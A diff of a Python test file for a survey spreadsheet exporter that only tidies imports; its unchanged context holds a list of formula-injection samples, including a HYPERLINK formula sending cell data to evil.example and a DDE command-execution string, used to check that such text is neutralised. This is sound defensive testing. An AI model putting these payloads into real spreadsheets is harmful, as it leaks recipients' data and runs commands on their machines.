@@ -2,14 +2,26 @@
 from __future__ import annotations
 
 import zipfile
-from datetime import date, datetime, timezone
+from datetime import UTC, date, datetime
 
 import pytest
 from openpyxl import Workbook, load_workbook
 
 from survey.workbook.builder import build
-from survey.workbook.cells import MAX_CELL_CHARS, CellMaker, Sheet, clean_text, safe_sheet_title
-from tests.factories import export_document, make_invitation, make_response, make_round, publish_document
+from survey.workbook.cells import (
+    MAX_CELL_CHARS,
+    CellMaker,
+    Sheet,
+    clean_text,
+    safe_sheet_title,
+)
+from tests.factories import (
+    export_document,
+    make_invitation,
+    make_response,
+    make_round,
+    publish_document,
+)
 
 FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1", "-2", "@SUM(A1)", "\t=1+1", "\r=1+1",
             "=cmd|' /C calc'!A0"]
@@ -24,7 +36,7 @@ def test_formula_looking_text_becomes_a_quoted_string_cell():
     assert make("plain text") == "plain text"
     assert make(-2) == -2 and make(1.5) == 1.5 and make(True) is True and make(None) is None
     assert make(date(2026, 1, 2)) == date(2026, 1, 2)
-    assert make(datetime(2026, 5, 4, 15, 30, tzinfo=timezone.utc)) == datetime(2026, 5, 4, 10, 30)
+    assert make(datetime(2026, 5, 4, 15, 30, tzinfo=UTC)) == datetime(2026, 5, 4, 10, 30)
 
 
 def test_illegal_characters_and_overlong_text_are_cleaned():
